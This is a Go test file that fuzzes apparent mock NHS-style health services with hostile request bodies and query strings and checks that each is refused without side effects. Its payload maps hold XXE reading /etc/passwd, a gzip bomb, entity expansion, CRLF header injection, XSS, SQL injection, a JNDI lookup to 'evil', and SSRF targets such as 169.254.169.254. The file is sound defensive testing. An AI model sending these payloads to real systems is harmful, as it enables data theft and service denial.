package catalogue_test

import (
	"bytes"
	"compress/gzip"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"sandpiper/mocks"
	"sandpiper/mocks/catalogue"
	"sandpiper/mocks/login/logintest"
	"sandpiper/mocks/pds"
	"sandpiper/mocks/records"
)

// TestAttacksKnockAtOpenDoors: of each service some route answers 200 to a plain request of the siege, so that what follows is not turned away for want of a key.
func TestAttacksKnockAtOpenDoors(t *testing.T) {
	s := newSiege(t, "")
	opened := map[string]int{}
	for _, route := range s.Routes() {
		w := s.ask(http.MethodGet, s.path(route), "", "Accept", "text/html, */*")
		calm(t, "GET "+s.path(route), w)
		if w.Code == 200 {
			opened[route.Service]++
		}
	}
	for _, service := range catalogue.Services() {
		if service.Name() == "citizen" { // opens to citizens only
			continue
		}
		assert.NotZero(t, opened[service.Name()], service.Name())
	}
	assert.Equal(t, 200, s.ask(http.MethodGet, "/citizen", "", "Authorization", "Bearer "+s.citizen).Code)
}

// bodies are attacks that a body can make, with their sources.
func bodies(t testing.TB) map[string]string {
	nested := func(open, inner, shut string) string {
		return strings.Repeat(open, 100_000) + inner + strings.Repeat(shut, 100_000)
	}
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	for range 64 {
		_, err := z.Write(make([]byte, 1<<20))
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	return map[string]string{
		"arrays 100,000 deep (CWE-674)":         nested("[", "1", "]"),
		"objects 100,000 deep (CWE-674)":        nested(`{"a":`, "1", "}"),
		"deep below a field that is read":       `{"resourceType":"Observation","patches":` + nested("[", "1", "]") + `,"filter":1}`,
		"deep and never closed (CWE-674)":       strings.Repeat(`[{"name":`, 100_000),
		"100,000 members (CWE-400)":             "{" + strings.Repeat(`"a":1,`, 100_000) + `"a":1}`,
		"20,000 members of different names":     manyMembers(20_000),
		"one number of 1 MB (CWE-1284)":         `{"a":` + strings.Repeat("9", 1<<20) + `}`,
		"an exponent beyond all (CWE-1284)":     `{"top":1e999999999,"patches":[{"op":"add","path":"/x/1e999999999","value":1e-999999999}]}`,
		"lone surrogates (RFC 8259 §8.2)":       `{"resourceType":"\ud800","patches":[{"op":"\udfff","path":"/\ud800"}],"search":"\ud800"}`,
		"overlong UTF-8 (RFC 3629 §10)":         "{\"resourceType\":\"\xc0\xaf\xc0\xae\",\"search\":\"\xf8\x88\x80\x80\x80\"}",
		"NUL and control characters (CWE-158)":  "{\"a\x00b\":\"\x01\"}\x00",
		"a byte order mark (RFC 8259 §8.1)":     "\ufeff{}",
		"a gzip bomb of 64 MB (CWE-409)":        bomb.String(),
		"a member of each prototype (CWE-1321)": `{"__proto__":{"admin":true},"constructor":{"prototype":{}}}`,
		"entities of XML (CWE-776)":             `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><Patient>&c;</Patient>`,
		"a file by XML (CWE-611)":               `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Patient>&b;</Patient>`,
		"100,000 form fields (CWE-400)":         strings.Repeat("a=b&", 100_000),
		"escapes that are none":                 "grant_type=%zz&%=%&=&&;",
		"null":                                  "null", "nothing": "", "a word": "true", "a text": `"text"`, "half": `{"patches":[{"op"`,
	}
}

func manyMembers(n int) string {
	var b strings.Builder
	b.WriteByte('{')
	for i := range n {
		b.WriteString(`"`)
		for v := i; ; v /= 26 {
			b.WriteByte(byte('a' + v%26))
			if v < 26 {
				break
			}
		}
		b.WriteString(`":0,`)
	}
	return b.String() + `"z":0}`
}

// TestBodiesThatAttack sends each of them to every route that takes a body, as each media type that some route takes: the answer is a refusal (or the empty search
// that "nothing" asks for), at once, and nothing is written.
func TestBodiesThatAttack(t *testing.T) {
	s := newSiege(t, "")
	before := len(s.Realm.World.Changes())
	for name, body := range bodies(t) {
		t.Run(name, func(t *testing.T) {
			for _, route := range s.writes() {
				path, method := s.path(route), route.Methods[0]
				for _, media := range []string{"application/json", "application/fhir+json", "application/json-patch+json", "application/x-www-form-urlencoded", "application/xml"} {
					if len(body) > 10_000 && !takesMedia(route, media) {
						continue // refused by their type before they are read
					}
					header := []string{"Content-Type", media}
					if strings.Contains(name, "gzip") {
						header = append(header, "Content-Encoding", "gzip")
					}
					began := time.Now()
					w := s.ask(method, path, body, header...)
					what := method + " " + path + " " + media
					calm(t, what, w)
					assert.Less(t, time.Since(began), hang, what)
					if route.Service != "servicesearch" && route.Service != "records" && route.Name != "userinfo" && route.Name != "logout" {
						assert.GreaterOrEqual(t, w.Code, 300, "%s: %s", what, clipped(w.Body.Bytes()))
					}
				}
			}
		})
	}
	assert.Len(t, s.Realm.World.Changes(), before, "no attack wrote anything")
}

// takesMedia reports whether a route reads a media type, as far as it matters to how long the attacks take.
func takesMedia(route mocks.Route, media string) bool {
	switch route.Service {
	case "pds", "servicesearch":
		return media == "application/json" || media == "application/json-patch+json"
	case "records":
		return media == "application/fhir+json" || media == "application/x-www-form-urlencoded"
	case "nhs-login":
		return media == "application/json" || media == "application/x-www-form-urlencoded"
	}
	return media == "application/x-www-form-urlencoded"
}

// TestOversizedBodies (CWE-770): a body that says that it is over the limit is refused unread with 413; one that does not say is cut off there.
func TestOversizedBodies(t *testing.T) {
	s := newSiege(t, "")
	huge := strings.Repeat(" ", 6<<20)
	for _, route := range s.writes() {
		w := s.ask(route.Methods[0], s.path(route), huge, "Content-Type", "application/json")
		calm(t, s.path(route), w)
		assert.Equal(t, 413, w.Code, s.path(route))
	}
	// In chunks nobody knows the length beforehand: what is read ends at the limit.
	for _, path := range []string{pds.Base + "/Patient", records.Base + "/Observation", "/oauth2/token", "/nhs-login/token", "/service-search-api/?api-version=3"} {
		r, err := http.NewRequest(http.MethodPost, "http://"+s.listen(nil)+path, struct{ *strings.Reader }{strings.NewReader(huge)})
		require.NoError(t, err)
		r.ContentLength = -1
		r.Header = http.Header{"Authorization": {"Bearer " + s.clinical}, "Content-Type": {"application/json"}, "X-Request-Id": {"60E0B220-8136-4CA5-AE46-1D97EF59D068"}, "Apikey": {"web"}}
		response, err := http.DefaultClient.Do(r)
		if err != nil {
			continue // the server closed the connection on what it would not read
		}
		assert.GreaterOrEqual(t, response.StatusCode, 400, path)
		assert.Less(t, response.StatusCode, 500, path)
		require.NoError(t, response.Body.Close())
	}
}

// queries are attacks that a query can make.
func queries() map[string]string {
	long := strings.Repeat("a", 60_000)
	return map[string]string{
		"a name and a value of 60 kB (CWE-400)":    long + "=" + long,
		"10,000 parameters (CWE-400)":              strings.Repeat("_id=1&", 10_000),
		"parentheses 10,000 deep (CWE-674)":        "api-version=3&$filter=" + strings.Repeat("(", 10_000) + "&search=" + strings.Repeat("(", 10_000) + "&searchFields=ODSCode",
		"stars (CWE-1333)":                         "family=" + strings.Repeat("*a", 5_000) + "&birthdate=eq1970-01-01&name:contains=" + strings.Repeat("a*", 5_000) + "&Name=" + strings.Repeat("%25_", 5_000),
		"escapes that are none":                    "%zz=%&family=%e0%80&&;&=",
		"overlong UTF-8 (RFC 3629 §10)":            "family=%c0%ae%c0%ae%c0%af&birthdate=%f8%88%80%80%80&identifier=%ff%fe",
		"NUL (CWE-158)":                            "family=a%00b&identifier=%00&search=%00&Name=%00&_id=%00",
		"CR and LF (CWE-113)":                      "family=a%0d%0aX-Evil:%201&redirect_uri=%0d%0a&state=%0d%0aSet-Cookie:%20a=b&identifier=%0d%0aX-Evil:1&host=%0d%0a",
		"markup (CWE-79)":                          "client_id=%3Cscript%3E&state=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&Name=%3Cscript%3E&search=%3Cimg%20src=x%3E&page=%3Cb%3E",
		"SQL, templates, lookups (CWE-89, CWE-94)": "Name='%20OR%201=1--&family=%7B%7B7*7%7D%7D&search=$%7Bjndi:ldap://evil/%7D&$filter=ODSCode%20eq%20''%20or%20''%20eq%20''&_id=%24%7B7*7%7D",
		"numbers beyond all (CWE-190)":             "Limit=99999999999999999999&Offset=-9223372036854775808&_count=-1&_page=18446744073709551616&$top=1e9&$skip=-1&page-size=99999999999&page-index=-5&start=-1&limit=0&page=-9999999999",
		"times that are none":                      "birthdate=eq2026-02-30&LastChangeDate=2026-13-45&_lastUpdated=ge9999999-01-01&death-date=le0000-00-00&_at=%2B99999",
		"addresses elsewhere (CWE-918)":            "redirect_uri=http://169.254.169.254/&iss=http://evil/&request_uri=http://evil/&_format=http://evil/&url=file:///etc/passwd&system=file:///etc/passwd",
		"everything twice (CWE-235)":               "client_id=web&client_id=evil&redirect_uri=" + evilCallback + "&redirect_uri=https://app.example/callback&family=A&family=B&birthdate=eq1970-01-01&birthdate=eq1971-01-01&_id=1&_id=2&api-version=3&api-version=2&identifier=a&identifier=b",
	}
}

// TestQueriesThatAttack sends each of them to every route by every method that it takes.
func TestQueriesThatAttack(t *testing.T) {
	s := newSiege(t, "")
	for name, query := range queries() {
		t.Run(name, func(t *testing.T) {
			for _, route := range s.Routes() {
				if strings.HasPrefix(route.Name, "download") || strings.Contains(route.Template, "/next/") {
					continue // megabytes, the same whatever the query, and the second version of what the first has
				}
				methods := route.Methods
				if len(methods) == 0 {
					methods = []string{http.MethodGet}
				}
				for _, method := range methods {
					path := s.path(route)
					began := time.Now()
					w := s.ask(method, path+"?"+query, "", "Content-Type", "application/x-www-form-urlencoded")
					what := method + " " + path
					calm(t, what, w)
					assert.Less(t, time.Since(began), hang, what)
					assert.Empty(t, w.Header().Get("X-Evil"), what)
					assert.NotContains(t, w.Body.String(), "<script>", what)
					assert.NotContains(t, w.Body.String(), "<img src=x", what)
					assert.NotContains(t, w.Body.String(), "root:", what)
				}
			}
		})
	}
}

// TestParametersInTheWrongPlace (RFC 6749 §2.3.1 and §3.2, RFC 6750 §2.3; RFC 9700 §4.3.2): what belongs in a body is not taken from a query, nor a token from either.
func TestParametersInTheWrongPlace(t *testing.T) {
	s := newSiege(t, "")
	form := "grant_type=client_credentials&client_id=web&client_secret=" + "s3cret"
	for _, path := range []string{"/oauth2/token", "/oauth2-mock/token", "/nhs-login/token", "/realms/Cis2-mock-internal-dev/protocol/openid-connect/token",
		"/openam/oauth2/realms/root/realms/NHSIdentity/realms/Healthcare/access_token"} {
		w := s.ask(http.MethodPost, path+"?"+form, "", "Content-Type", "application/x-www-form-urlencoded")
		calm(t, path, w)
		assert.Contains(t, []int{400, 401}, w.Code, path)
		assert.NotContains(t, w.Body.String(), "access_token\":", path)
	}
	// A field twice is read once, the first: neither application is given what the other's secret opens (RFC 6749 §3.2, CWE-235).
	for _, twice := range []string{"client_id=evil&client_secret=s3cret&client_id=web", "client_id=web&client_secret=ev1l&client_secret=s3cret", "client_id=web&client_secret=&client_secret=s3cret"} {
		w := s.ask(http.MethodPost, "/oauth2/token?client_id=web&client_secret=s3cret", "grant_type=authorization_code&code=x&redirect_uri="+url.QueryEscape(logintest.Callback)+"&"+twice,
			"Content-Type", "application/x-www-form-urlencoded", "Authorization", "")
		assert.Equal(t, 401, w.Code, "%s: %s", twice, w.Body)
		assert.NotContains(t, w.Body.String(), "code is invalid", twice)
	}
	number := s.Realm.World.Population().Number(3).String()
	for _, path := range []string{pds.Base + "/Patient/" + number, records.Base + "/Patient/" + s.Realm.World.IDs().PatientID(3), "/citizen", "/oauth2/userinfo"} {
		w := s.ask(http.MethodGet, path+"?access_token="+s.citizen, "", "Authorization", "", "Accept", "application/json")
		assert.Contains(t, []int{400, 401}, w.Code, path)
		w = s.ask(http.MethodGet, path, "access_token="+s.citizen, "Authorization", "", "Accept", "application/json", "Content-Type", "application/x-www-form-urlencoded")
		assert.Contains(t, []int{400, 401}, w.Code, path)
	}
}
